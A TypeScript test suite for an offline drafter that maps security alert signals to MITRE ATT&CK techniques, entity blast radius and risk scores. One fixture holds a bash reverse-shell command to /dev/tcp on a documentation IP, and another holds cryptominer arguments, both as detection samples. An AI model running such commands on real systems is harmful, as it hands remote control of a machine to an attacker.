import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FindingBrief } from '../../shared/brief';
import { AttackCatalog } from '../../electron/core/attack/catalog';
import { verifyClaims } from '../../electron/core/drafter/evidence-check';
import { OfflineDrafter } from '../../electron/core/drafter/offline-drafter';
import { isPublicIp, typeEntity } from '../../electron/core/drafter/offline-entities';
import { stem, tokenize } from '../../electron/core/drafter/retrieval';
import type { DraftInput } from '../../electron/core/drafter/types';
import { draftInputFromSignal } from '../../electron/core/eval/signal-input';

const catalog = AttackCatalog.load();
const drafter = new OfflineDrafter(catalog);
const root = join(__dirname, '..', '..');

interface SignalSpec {
  rule: string;
  message?: string;
  tags?: string[];
  entities?: string[];
  attrs?: Record<string, unknown>;
  severity?: string;
  type?: string;
  host?: string;
}

let seq = 0;
function signal(s: SignalSpec): Record<string, unknown> {
  seq++;
  const attributes: Record<string, unknown> = {
    timestamp: '2026-10-15T12:00:00.000Z',
    status: s.severity ?? 'high',
    message: s.message ?? `%%%\n## Goal\n${s.rule}.\n%%%`,
    tags: ['security:attack', 'env:prod', ...(s.tags ?? [])],
    service: [''],
    attributes: {
      title: s.rule,
      entities: s.entities ?? [],
      workflow: { rule: { id: 'abc-def-ghi', name: s.rule, type: s.type ?? 'Log Detection' }, events_matched: 12, first_seen: '2026-10-15T11:50:00.000Z', last_seen: '2026-10-15T11:59:00.000Z' },
      triggeringRuleCase: { status: s.severity ?? 'high', name: '', condition: 'a > 0' },
      ...(s.attrs ?? {}),
    },
  };
  if (s.host) attributes['host'] = s.host;
  return { id: `AQAAAYtest${seq}`, type: 'signal', attributes };
}

function input(s: SignalSpec): DraftInput {
  return draftInputFromSignal(signal(s), 42);
}

function lines(file: string): { id: string; signal: unknown; expected: { technique: string } }[] {
  return readFileSync(join(root, 'test', 'eval', file), 'utf8')
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l));
}

describe('OfflineDrafter identity', () => {
  it('declares itself as the offline drafter', () => {
    expect(drafter.kind).toBe('offline');
    expect(drafter.model).toBeNull();
    expect(drafter.promptVersion).toBe('offline-2');
    expect(drafter.identity).toBe('vigil/offline-drafter@2');
  });
});

describe('technique from the signal’s own tags', () => {
  it('uses a valid tag, case-insensitively, and cites it', () => {
    const b = drafter.brief(input({ rule: 'Custom rule 42 matched', tags: ['TECHNIQUE:T1098-Account-Manipulation', 'tactic:TA0003-persistence'] }));
    expect(b.technique.id).toBe('T1098');
    expect(b.technique.tactic_id).toBe('TA0003');
    expect(b.technique.tactic_name).toBe('Persistence');
    expect(b.confidence).toBeGreaterThanOrEqual(0.8);
    expect(b.claims[0]?.evidence).toContainEqual({ kind: 'signal_field', ref: 'tags.2' });
  });

  it('refines a parent tag to the sub-technique the content names', () => {
    const b = drafter.brief(
      input({
        rule: 'AWS CloudTrail trail logging stopped',
        tags: ['technique:t1562-impair-defenses', 'tactic:ta0005-defense-evasion'],
        attrs: { evt: { name: 'StopLogging' }, eventSource: 'cloudtrail.amazonaws.com' },
      }),
    );
    expect(b.technique.id).toBe('T1562.008');
    expect(b.technique.tactic_id).toBe('TA0005');
    expect(b.notes.join(' ')).toMatch(/Refined tag T1562 to its sub-technique T1562\.008/);
  });

  it('replaces a revoked tag with its successor and says so', () => {
    const b = drafter.brief(
      input({
        rule: 'Suspicious process launched by Office',
        tags: ['technique:t1086-powershell', 'tactic:ta0002-execution'],
        entities: ['host:WKS-0412', '@usr.id:CORP\\dana'],
      }),
    );
    expect(b.technique.id).toBe('T1059.001');
    expect(b.technique.name).toBe('PowerShell');
    expect(b.notes.some((n) => /T1086 .*revoked.*T1059\.001/.test(n))).toBe(true);
    expect(catalog.resolve(b.technique.id).status).toBe('active');
  });

  it('ignores a deprecated tag and falls back to retrieval', () => {
    const b = drafter.brief(
      input({
        rule: 'Reverse shell: bash -i redirected to /dev/tcp',
        tags: ['technique:t1064-scripting'],
        attrs: { process: { executable: { path: '/bin/bash', name: 'bash' }, args: '-c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } },
      }),
    );
    expect(b.technique.id).toBe('T1059.004');
    expect(b.notes.some((n) => /T1064 .*deprecated/.test(n))).toBe(true);
  });

  it('demotes a tag that the content contradicts to a secondary technique', () => {
    const b = drafter.brief(
      input({
        rule: 'Password spray: one IP failing to sign in to many accounts',
        message: '%%%\nDetect a single address trying a common password against many accounts.\n%%%',
        tags: ['technique:t1078-valid-accounts', 'tactic:ta0001-initial-access'],
        entities: ['@usr.id:alice@example.com', '@network.client.ip:203.0.113.7'],
      }),
    );
    expect(b.technique.id).toBe('T1110.003');
    expect(b.technique.tactic_id).toBe('TA0006');
    expect(b.secondary_techniques).toContain('T1078');
    expect(b.notes.join(' ')).toMatch(/not supported by the signal's content/);
  });
});

describe('technique by retrieval on untagged signals', () => {
  const cases: [string, SignalSpec, string][] = [
    ['Okta spraying', { rule: 'Okta: many users failed to authenticate from one address with the same password (spraying)' }, 'T1110.003'],
    ['miner', { rule: 'Suspicious binary on node', attrs: { process: { executable: { path: '/tmp/x/xmrig', name: 'xmrig' }, args: '-o pool.example:3333' } } }, 'T1496.001'],
    ['kubectl exec', { rule: 'User ran kubectl exec into a production pod' }, 'T1609'],
    ['GuardDuty', { rule: 'Threat detection turned off', attrs: { evt: { name: 'DeleteDetector' }, eventSource: 'guardduty.amazonaws.com' } }, 'T1562.001'],
    ['access key', { rule: 'New long-lived credential for IAM user', attrs: { evt: { name: 'CreateAccessKey' } } }, 'T1098.001'],
    ['forwarding', { rule: 'Mailbox rule forwards mail to an external address', attrs: { evt: { name: 'New-InboxRule' } } }, 'T1114.003'],
    ['ransomware', { rule: 'Ransomware behaviour: files encrypted and renamed in bulk' }, 'T1486'],
    ['DNS tunnel', { rule: 'Possible DNS tunneling via long TXT queries' }, 'T1071.004'],
  ];
  for (const [name, spec, expected] of cases) {
    it(`${name} → ${expected}`, () => {
      const b = drafter.brief(input(spec));
      expect(b.technique.id).toBe(expected);
      expect(b.notes.join(' ')).toMatch(/No usable MITRE technique tag/);
      expect(b.confidence).toBeGreaterThan(0.3);
      expect(b.confidence).toBeLessThan(0.9);
    });
  }

  it('uses the technique’s first tactic in matrix order when no tactic tag says otherwise', () => {
    const b = drafter.brief(input({ rule: 'AWS root account console sign-in', attrs: { evt: { name: 'ConsoleLogin' } } }));
    expect(b.technique.id).toBe('T1078.004');
    expect(b.technique.tactic_id).toBe('TA0001');
  });

  it('still produces a valid, low-confidence brief when nothing is recognisable', () => {
    const b = drafter.brief(input({ rule: 'zzz', message: '' }));
    expect(FindingBrief.safeParse(b).success).toBe(true);
    expect(b.confidence).toBeLessThan(0.5);
    expect(catalog.resolve(b.technique.id).status).toBe('active');
  });
});

describe('blast radius', () => {
  it('types Datadog entity strings', () => {
    const t = (raw: string) => {
      const e = typeEntity(raw, 0);
      return [e.type, e.value, e.public];
    };
    expect(t('host:i-0439f25d8385802b8')).toEqual(['host', 'i-0439f25d8385802b8', undefined]);
    expect(t('@usr.id:root')).toEqual(['user', 'root', undefined]);
    expect(t('@usr.email:alice@example.com')).toEqual(['user', 'alice@example.com', undefined]);
    expect(t('@network.client.ip:203.0.113.7')).toEqual(['ip', '203.0.113.7', true]);
    expect(t('@network.client.ip:10.20.4.17')).toEqual(['ip', '10.20.4.17', false]);
    expect(t('@userIdentity.arn:arn:aws:sts::123456789012:assumed-role/ci/alice')).toEqual(['cloud_role', 'arn:aws:sts::123456789012:assumed-role/ci/alice', undefined]);
    expect(t('@userIdentity.arn:arn:aws:iam::123456789012:user/bob')).toEqual(['cloud_user', 'arn:aws:iam::123456789012:user/bob', undefined]);
    expect(t('@userIdentity.arn:arn:aws:iam::123456789012:root')[0]).toBe('cloud_root');
    expect(t('@userIdentity.accountId:123456789012')[0]).toBe('cloud_account');
    expect(t('project_id:acme-prod')[0]).toBe('cloud_project');
    expect(t('subscription_id:8f3c2a71')[0]).toBe('cloud_subscription');
    expect(t('@objectRef.namespace:kube-system')[0]).toBe('k8s_namespace');
    expect(t('pod_name:api-7c9f')[0]).toBe('pod');
    expect(t('kube_cluster_name:prod-eks-1')[0]).toBe('k8s_cluster');
    expect(t('@container.id:3f2a1b')[0]).toBe('container');
    expect(t('@repo:example-org/api')[0]).toBe('repo');
    expect(t('service:checkout')[0]).toBe('service');
    expect(t('@something.odd:198.51.100.4')).toEqual(['ip', '198.51.100.4', true]);
    expect(t('@weird:value')[0]).toBe('entity');
  });

  it('knows private, loopback, link-local and CGNAT addresses are not public', () => {
    for (const ip of ['10.0.0.1', '172.16.0.1', '172.31.255.255', '192.168.1.1', '127.0.0.1', '169.254.169.254', '100.64.0.1', '::1', 'fe80::1', 'fd00::1']) expect(isPublicIp(ip)).toBe(false);
    for (const ip of ['8.8.8.8', '172.32.0.1', '203.0.113.7', '2001:db8::1']) expect(isPublicIp(ip)).toBe(true);
  });

  it('lists every entity with its type, counts them and adds the signal host', () => {
    const b = drafter.brief(
      input({
        rule: 'Shell spawned by web server',
        entities: ['@usr.id:www-data', '@network.client.ip:198.51.100.23', '@network.client.ip:198.51.100.23'],
        attrs: { hostname: 'web-prod-03' },
      }),
    );
    expect(b.blast_radius.entities).toEqual([
      { type: 'user', value: 'www-data' },
      { type: 'ip', value: '198.51.100.23' },
      { type: 'host', value: 'web-prod-03' },
    ]);
    expect(b.blast_radius.count).toBe(3);
    expect(b.blast_radius.summary).toMatch(/1 public IP \(198\.51\.100\.23\)/);
    expect(b.recommended_action.text).toMatch(/web-prod-03|www-data/);
  });
});

describe('every brief', () => {
  const main = lines('signals.jsonl');

  it('passes FindingBrief.parse and has only verified claims (main set)', () => {
    for (const [i, l] of main.entries()) {
      const inp = draftInputFromSignal(l.signal, i + 1);
      const b = drafter.brief(inp);
      expect(FindingBrief.safeParse(b).success, l.id).toBe(true);
      expect(b.claims.length, l.id).toBeGreaterThan(2);
      for (const c of b.claims) expect(c.verified, `${l.id}: ${c.text}`).toBe(true);
      // the verdicts hold when Vigil re-checks them against the input
      expect(verifyClaims(b.claims, inp).every((c) => c.verified), l.id).toBe(true);
      expect(b.risk.score).toBeGreaterThanOrEqual(0);
      expect(b.mitigation_plan.containment_steps.length, l.id).toBeGreaterThan(0);
      expect(catalog.resolve(b.technique.id).status, l.id).toBe('active');
      for (const s of b.secondary_techniques) expect(catalog.resolve(s).status, `${l.id} secondary ${s}`).toBe('active');
    }
  });

  it('is deterministic', async () => {
    const other = new OfflineDrafter(catalog);
    for (const [i, l] of main.slice(0, 40).entries()) {
      const inp = draftInputFromSignal(l.signal, i + 1);
      const a = drafter.brief(inp);
      expect(drafter.brief(inp)).toEqual(a);
      expect(other.brief(structuredClone(inp))).toEqual(a);
      expect((await drafter.draft(inp)).brief).toEqual(a);
    }
  });

  it('reports no tokens and is fast once the index is built', async () => {
    const inputs = main.map((l, i) => draftInputFromSignal(l.signal, i + 1));
    const res = await drafter.draft(inputs[0] as DraftInput);
    expect(res.usage).toEqual({ tokensIn: 0, tokensOut: 0 });
    expect(res.retries).toBe(0);
    for (const inp of inputs) drafter.brief(inp); // warm-up
    const t0 = performance.now();
    for (let r = 0; r < 3; r++) for (const inp of inputs) drafter.brief(inp);
    const perDraft = (performance.now() - t0) / (3 * inputs.length);
    expect(perDraft).toBeLessThan(2);
  });

  it('refuses to draft when cancelled', async () => {
    const ac = new AbortController();
    ac.abort();
    await expect(drafter.draft(input({ rule: 'x' }), { signal: ac.signal })).rejects.toMatchObject({ code: 'CANCELLED' });
  });
});

describe('related findings, Splunk and risk', () => {
  it('keeps related findings within 30 days, with shared entities, a reason and a verified claim', () => {
    const inp = input({ rule: 'Okta password spray: one IP, many users', entities: ['@usr.email:alice@example.com', '@network.client.ip:203.0.113.7'] });
    inp.related = [
      { finding_id: 'FND-7', title: 'Okta MFA push spam', severity: 'high', status: 'drafted', mitre_technique: 'T1621', created_at: '2026-10-14T09:00:00.000Z', shared: [{ type: 'ip', value: '203.0.113.7' }] },
      { finding_id: 'FND-2', title: 'Old', severity: 'low', status: 'closed', mitre_technique: 'T1110.003', created_at: '2026-08-01T00:00:00.000Z', shared: [{ type: 'user', value: 'alice@example.com' }] },
      { finding_id: 'FND-9', title: 'Same spray', severity: 'medium', status: 'new', mitre_technique: 'T1110.003', created_at: '2026-10-15T08:00:00.000Z', shared: [{ type: 'ip', value: '203.0.113.7' }, { type: 'user', value: 'alice@example.com' }] },
    ];
    inp.splunk = [{ evidence_id: 5, saved_search: 'okta_failed_logins', spl: 'search …', result_count: 2, fields: ['user'], rows: [{ user: 'alice' }, { user: 'bob' }] }];
    const b = drafter.brief(inp);
    expect(b.related_findings.map((r) => r.finding_id)).toEqual(['FND-9', 'FND-7']);
    expect(b.related_findings[0]?.shared).toHaveLength(2);
    expect(b.related_findings[0]?.reason).toMatch(/same technique T1110\.003/);
    expect(b.related_findings[1]?.reason).toMatch(/1 day earlier|the same day/);
    const relatedClaims = b.claims.filter((c) => c.evidence.some((e) => e.kind === 'related_finding'));
    expect(relatedClaims).toHaveLength(2);
    const splunkClaim = b.claims.find((c) => c.evidence.some((e) => e.kind === 'splunk_row'));
    expect(splunkClaim?.evidence).toEqual([{ kind: 'splunk_row', ref: 'splunk:5:0' }]);
    expect(b.claims.every((c) => c.verified)).toBe(true);
    expect(b.mitigation_plan.blockers.join(' ')).not.toMatch(/No Splunk context/);
  });

  it('scores risk with the shared formula and raises it for privileged, internet-facing activity', () => {
    const quiet = drafter.brief(input({ rule: 'Network scanning utility executed', severity: 'low', type: 'Workload Security', entities: ['host:build-runner-2'], attrs: { process: { executable: { name: 'nmap' } } } }));
    const loud = drafter.brief(
      input({
        rule: 'AWS IAM AdministratorAccess policy attached to a role',
        severity: 'critical',
        entities: ['@userIdentity.arn:arn:aws:iam::123456789012:user/eve', '@network.client.ip:198.51.100.23'],
        attrs: { evt: { name: 'AttachRolePolicy' } },
      }),
    );
    expect(loud.risk.score).toBeGreaterThan(quiet.risk.score);
    expect(loud.risk.factors.exposure).toBe(1);
    expect(loud.risk.factors.impact).toBe(5);
    expect(quiet.risk.factors.control_effectiveness).toBeGreaterThan(loud.risk.factors.control_effectiveness);
    const f = loud.risk.factors;
    expect(loud.risk.score).toBe(Math.round(100 * (f.impact / 5) * f.likelihood * (1 - f.control_effectiveness) * (0.5 + 0.5 * f.exposure)));
    expect(loud.recommended_action.kind).toBe('contain');
    expect(loud.mitigation_plan.timeline).toMatch(/1 hour/);
  });

  it('suggests suppressing low-severity reconnaissance and closing informational signals', () => {
    const recon = drafter.brief(input({ rule: 'Vulnerability scanner user agent detected (Nuclei)', severity: 'low', entities: ['@network.client.ip:203.0.113.7'] }));
    expect(recon.technique.tactic_id).toBe('TA0043');
    expect(recon.recommended_action.kind).toBe('suppress');
    const info = drafter.brief(input({ rule: 'AWS IAM user console sign-in without MFA', severity: 'info', attrs: { evt: { name: 'ConsoleLogin' } } }));
    expect(info.recommended_action.kind).toBe('close');
  });
});

describe('text normalisation', () => {
  it('splits vendor names and stems consistently', () => {
    expect(tokenize('CreateAccessKey')).toEqual(['creat', 'access', 'key']);
    expect(tokenize('access keys created')).toEqual(['access', 'key', 'creat']);
    expect(tokenize('iam.serviceAccountKeys.create')).toEqual(['iam', 'servic', 'account', 'key', 'creat']);
    expect(stem('logging')).toBe(stem('logs'));
    expect(stem('scanning')).toBe(stem('scanner'));
    expect(stem('deleted')).toBe(stem('deletion'));
    expect(stem('users')).toBe(stem('user'));
  });
});
